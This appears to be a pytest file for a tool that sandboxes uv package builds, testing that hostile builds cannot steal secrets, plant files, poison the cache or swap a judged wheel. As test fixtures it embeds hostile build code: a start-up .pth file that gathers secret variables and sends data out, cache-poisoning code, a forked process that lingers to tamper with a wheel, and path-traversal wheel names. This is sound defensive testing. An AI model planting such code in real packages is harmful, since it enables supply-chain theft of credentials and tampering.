"""uv's builds run in the sandbox: what a hostile one tries comes to nothing."""

from __future__ import annotations

import json
import shutil
import subprocess
from typing import TYPE_CHECKING, Any

import pytest

from support import uv_versions
from support.builders import make_sdist, make_tree, make_wheel
from support.hostile_builds import PASSWORD, PYPROJECT, SECRETS, Sink, backend_files
from support.pythons import PYTHONS, find_python
from support.selection import EVERYDAY_RUNGS, everyday
from veln_hook.model import ExitStatus
from veln_hook.policy.settings import SandboxPolicy
from veln_hook.sandbox import net_only

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from uv_builder import Builder

    from support.index_server import IndexServer


RUNGS = ("namespaces", "bubblewrap", "netns-supervisor", "supervisor")
OFF = SandboxPolicy(builds="off")


def assert_learned_nothing(done: dict[str, Any]) -> None:
    """Assert that one attempt came to nothing; writing into a place of its own is no harm."""
    assert [name for name in done["did"] if not name.startswith("write")] == [], done
    assert "secret" not in done
    assert not set(SECRETS) & set(done["environ"]), done
    assert not [value for value in done["environ"].values() if PASSWORD in value]
    assert not [name for name in done["environ"] if name.startswith("VELN_HOOK")]
    assert "PYTHONWARNINGS" not in done["environ"]
    assert "PYTHONPATH" not in done["environ"]


def _hostile(builder: Builder, index: IndexServer, tmp_path: Path, sink: Sink) -> list[Path]:
    """Put an attacking sdist on the index; return the files that it must not write."""
    secret = builder.home.path / ".ssh/id_rsa"
    secret.parent.mkdir()
    secret.write_text("hunter2")
    outside = [tmp_path / "outside", builder.home.path / ".profile", builder.home.tmp / "planted"]
    outside += [builder.cache / "planted", builder.home.path / ".cache/planted"]
    files = backend_files(sink, outside, secret)
    index.add(make_sdist(tmp_path, "demo", "1.0", pyproject=PYPROJECT, files=files))
    return outside


def _assert_harmless(builder: Builder, sink: Sink, outside: list[Path]) -> None:
    assert sink.received == []
    assert not [path for path in outside if path.exists()]
    seen = json.loads(builder.installed("seen.json").read_text())
    assert len(seen) >= 1
    for done in seen:
        assert_learned_nothing(done)


@pytest.mark.parametrize("version", everyday(uv_versions.UVS, [uv_versions.NEWEST]))
@pytest.mark.parametrize("rung", everyday(RUNGS, EVERYDAY_RUNGS))
def test_a_hostile_backend_reaches_nothing_and_learns_nothing(
    make_builder: Callable[..., Builder],
    plain_index: IndexServer,
    tmp_path: Path,
    sink: Sink,
    *,
    version: str,
    rung: str,
) -> None:
    builder = make_builder(version, rung)
    outside = _hostile(builder, plain_index, tmp_path, sink)
    ran = builder.install("demo", index=plain_index, env=SECRETS)
    assert ran.returncode == 0, ran
    _assert_harmless(builder, sink, outside)
    told = [line for line in ran.lines if "the build of demo 1.0 tried to reach attacker.example" in line]
    assert len(told) == (0 if rung == "bubblewrap" else 1), ran
    assert "allow_hosts" not in " ".join(ran.lines), "it was not needed, so nobody is invited to allow it"
    assert ran.status is ExitStatus.OK


def test_such_a_start_up_file_does_harm_where_nothing_is_confined(
    newest: Builder, plain_index: IndexServer, tmp_path: Path, sink: Sink
) -> None:
    plain_index.add(make_wheel(tmp_path, "helper", "1.0", _starting(sink, tmp_path / "outside")))
    plain_index.add(_saying(tmp_path))
    ran = newest.install("demo", index=plain_index, env=SECRETS, policy=OFF)
    assert ran.returncode == 0, ran
    assert newest.installed("demo.py").read_text() == f"FOUND = {[*SECRETS, 'sent']}\n"
    assert (tmp_path / "outside").exists()


def test_the_same_backend_does_harm_where_nothing_is_confined(
    newest: Builder, plain_index: IndexServer, tmp_path: Path, sink: Sink
) -> None:
    outside = _hostile(newest, plain_index, tmp_path, sink)
    ran = newest.install("demo", index=plain_index, env=SECRETS, policy=OFF)
    assert ran.returncode == 0, ran
    assert SECRETS["GITHUB_TOKEN"].encode() in sink.received[0]
    assert all(path.exists() for path in outside)


@pytest.mark.parametrize("rung", everyday(RUNGS, EVERYDAY_RUNGS))
def test_behind_a_network_of_its_own_it_is_the_same(
    make_builder: Callable[..., Builder], plain_index: IndexServer, tmp_path: Path, sink: Sink, rung: str
) -> None:
    if not net_only.find().works:
        pytest.skip("this machine gives nobody a network of its own")
    builder = make_builder(rung=rung)
    outside = _hostile(builder, plain_index, tmp_path, sink)
    ran = builder.install("demo", index=plain_index, env=SECRETS, walled=True)
    assert ran.returncode == 0, ran
    _assert_harmless(builder, sink, outside)


_STARTS = """
import os, sys, urllib.request
found = [name for name in {secrets!r} if name in os.environ]
try:
    open({outside!r}, "w").close()  # where it is let, that may be a place of its own
except OSError:
    pass
try:
    urllib.request.urlopen("http://127.0.0.1:{port}/", b"x", 5)
    found.append("sent")
except OSError:
    pass
sys.found = found
"""
_SAYS = (
    "import sys\nwith open('demo.py', 'w') as file:\n    file.write('FOUND = %r\\n' % sys.found)\n"
    "from _test_backend import *\n"
)
_FOUND_NOTHING = "FOUND = []\n"


def _starting(sink: Sink, outside: Path) -> dict[str, str]:
    """Return the files of a project whose start-up file attacks."""
    code = _STARTS.format(secrets=list(SECRETS), outside=str(outside), port=sink.port)
    return {"helper.py": "", "helper_starts.py": code, "helper.pth": "import helper_starts\n"}


def _saying(directory: Path) -> Path:
    """Return an sdist that is built with that project, and whose module says what its start-up file found."""
    pyproject = PYPROJECT.replace("requires = []", 'requires = ["helper"]')
    files = {"hostile.py": _SAYS, "demo.py": ""}
    return make_sdist(directory, "demo", "1.0", pyproject=pyproject, files=files)


def test_a_start_up_file_of_a_build_requirement_runs_confined(
    builder: Builder, plain_index: IndexServer, tmp_path: Path, sink: Sink
) -> None:
    """``site`` runs it before it loads ``sitecustomize``, which would be too late for us."""
    plain_index.add(make_wheel(tmp_path, "helper", "1.0", _starting(sink, tmp_path / "outside")))
    plain_index.add(_saying(tmp_path))
    ran = builder.install("demo", index=plain_index, env=SECRETS)
    assert ran.returncode == 0, ran
    assert builder.installed("demo.py").read_text() == _FOUND_NOTHING
    assert sink.received == []
    assert not (tmp_path / "outside").exists()


def test_and_one_that_a_build_requirement_s_own_build_made(
    newest: Builder, plain_index: IndexServer, tmp_path: Path, sink: Sink
) -> None:
    """What judging makes of it is another matter (``test_uv_builds_judged``): here it lets it through."""
    plain_index.add(make_sdist(tmp_path, "helper", "1.0", files=_starting(sink, tmp_path / "outside")))
    plain_index.add(_saying(tmp_path))
    ran = newest.install("demo", index=plain_index, env=SECRETS)
    assert ran.returncode == 0, ran
    assert newest.installed("demo.py").read_text() == _FOUND_NOTHING
    assert sink.received == []
    assert not (tmp_path / "outside").exists()


_POISON = """
import helper, os
for path in (helper.__file__, os.path.join(os.path.dirname(helper.__file__), "new.pth")):
    for mode in ("a", "w"):
        try:
            open(path, mode).write("POISON = 1\\n")
        except OSError:
            pass
    try:
        os.unlink(path)
    except OSError:
        pass
from _test_backend import *
"""


@pytest.mark.parametrize("rung", everyday(RUNGS, EVERYDAY_RUNGS))
def test_the_files_of_a_build_environment_which_are_the_cache_s_stay_as_they_are(
    make_builder: Callable[..., Builder], plain_index: IndexServer, tmp_path: Path, rung: str
) -> None:
    builder = make_builder(rung=rung)
    plain_index.add(make_wheel(tmp_path, "helper", "1.0"))
    pyproject = PYPROJECT.replace("requires = []", 'requires = ["helper"]')
    files = {"hostile.py": _POISON, "demo.py": ""}
    plain_index.add(make_sdist(tmp_path, "demo", "1.0", pyproject=pyproject, files=files))
    ran = builder.install("demo", "helper", index=plain_index)
    assert ran.returncode == 0, ran
    kept = list(builder.cache.glob("archive-v*/**/helper.py"))
    assert kept
    for path in [*kept, builder.installed("helper.py")]:
        assert path.read_text() == 'VERSION = "1.0"\n'
    assert not builder.installed("new.pth").exists()


_STAYS = """
import _test_backend as honest
from _test_backend import *
import os, time, zipfile

def build_wheel(directory, *args, **kwargs):
    name = honest.build_wheel(directory, *args, **kwargs)
    parent, wheel = os.getpid(), os.path.join(directory, name)
    if os.fork():
        return name
    os.setsid()
    if os.fork():
        os._exit(0)
    with open(wheel, "r+b") as kept:
        while os.path.exists("/proc/%d" % parent) and os.getppid() != 1:
            time.sleep(0.001)
        for _ in range(10_000):
            for path in (wheel, kept):
                with zipfile.ZipFile(path, "a") as opened:
                    opened.writestr("veln_hook/_startup.py", "")
            time.sleep(0.001)
    os._exit(0)
"""


@pytest.mark.parametrize("rung", everyday(RUNGS, EVERYDAY_RUNGS))
def test_who_stays_behind_exchanges_no_wheel_that_was_judged(
    make_builder: Callable[..., Builder], plain_index: IndexServer, tmp_path: Path, rung: str
) -> None:
    builder = make_builder(rung=rung)
    files = {"hostile.py": _STAYS, "demo.py": ""}
    plain_index.add(make_sdist(tmp_path, "demo", "1.0", pyproject=PYPROJECT, files=files))
    ran = builder.install("demo", index=plain_index)
    # It may come in before the judge does.
    assert ran.returncode == 0 or "BLOCK demo 1.0" in ran.out, ran
    assert not list(builder.target.glob("**/_startup.py"))
    assert [verdict.subject.filename for verdict in ran.verdicts] == ["demo-1.0-py3-none-any.whl"]


@pytest.mark.parametrize("policy", [SandboxPolicy(), OFF], ids=["confined", "off"])
@pytest.mark.parametrize("other", ["{here}/{name}", "../../{name}", "{name}/../{name}"])
def test_a_wheel_that_is_called_by_another_place_is_not_taken(
    newest: Builder, tmp_path: Path, policy: SandboxPolicy, other: str
) -> None:
    code = (
        "import _test_backend as honest\nfrom _test_backend import *\nimport os\n\n"
        "def build_wheel(directory, *args, **kwargs):\n"
        "    name = honest.build_wheel(directory, *args, **kwargs)\n"
        "    honest.build_wheel(os.getcwd())\n"
        f"    return {other!r}.format(here=os.getcwd(), name=name)\n"
    )
    tree = make_tree(tmp_path, "demo", "1.0", pyproject=PYPROJECT, files={"hostile.py": code, "demo.py": ""})
    ran = newest.install(tree, policy=policy)
    assert ran.returncode != 0, ran
    assert "HOLD  what the build of demo-1.0 made can't be judged" in ran.out
    assert ran.status is ExitStatus.NEEDS_REVIEW
    assert not list(newest.target.glob("**/demo.py"))


def test_the_environment_of_a_project_in_its_own_directory_stays_as_it_is(
    make_builder: Callable[..., Builder], tmp_path: Path
) -> None:
    builder = make_builder()
    if builder.rung not in ("namespaces", "bubblewrap"):
        pytest.skip("without a mount namespace, what lies in a writable directory is writable")
    tree = make_tree(tmp_path, "demo", "1.0", pyproject=PYPROJECT, files={"hostile.py": "", "demo.py": ""})
    builder.target = tree / ".venv"
    planted = [tree / ".venv/planted", tree / ".git/planted"]
    subprocess.run(["git", "init", "-q", tree], check=True)
    (tree / "hostile.py").write_text(
        f"for path in {[str(path) for path in planted]!r}:\n"
        "    try:\n        open(path, 'w')\n    except OSError:\n        pass\n"
        "open('written', 'w').close()\nfrom _test_backend import *\n"
    )
    ran = builder.install(tree)
    assert ran.returncode == 0, ran
    assert (tree / "written").exists()
    assert not [path for path in planted if path.exists()]


def test_a_project_s_link_does_not_lead_its_build_elsewhere(newest: Builder, tmp_path: Path) -> None:
    """``uv build`` writes to ``dist``, which a checkout can bring along."""
    tree = make_tree(tmp_path, "demo", "1.0")
    mine = tmp_path / "mine"
    mine.mkdir()
    (tree / "dist").symlink_to(mine)
    ran = newest.run("build", "--wheel", "--python", newest.python, tree)
    assert ran.returncode != 0, ran
    assert ran.status is ExitStatus.NEEDS_REVIEW
    assert any("the build of demo-1.0 would have to write" in line for line in ran.lines), ran


def test_a_home_directory_is_no_source(newest: Builder, tmp_path: Path) -> None:
    tree = make_tree(tmp_path, "demo", "1.0")
    for path in tree.iterdir():
        path.rename(newest.home.path / path.name)
    ran = newest.install(newest.home.path)
    assert ran.returncode != 0, ran
    assert any("move the source into a directory of its own" in line for line in ran.lines), ran
    assert ran.status is ExitStatus.NEEDS_REVIEW


@pytest.mark.parametrize("python", everyday([*PYTHONS, "pypy3"], (PYTHONS[0], PYTHONS[-1])))
def test_any_python_builds_confined(
    newest: Builder, plain_index: IndexServer, tmp_path: Path, sink: Sink, python: str
) -> None:
    found = shutil.which(python) if python == "pypy3" else find_python(python)
    if found is None:
        pytest.skip(f"there is no Python {python} here")
    newest.make_venv(newest.target, found)
    plain_index.add(make_wheel(tmp_path, "helper", "1.0", _starting(sink, tmp_path / "outside")))
    plain_index.add(_saying(tmp_path))
    ran = newest.install("demo", index=plain_index, env=SECRETS)
    assert ran.returncode == 0, ran
    assert newest.installed("demo.py").read_text() == _FOUND_NOTHING
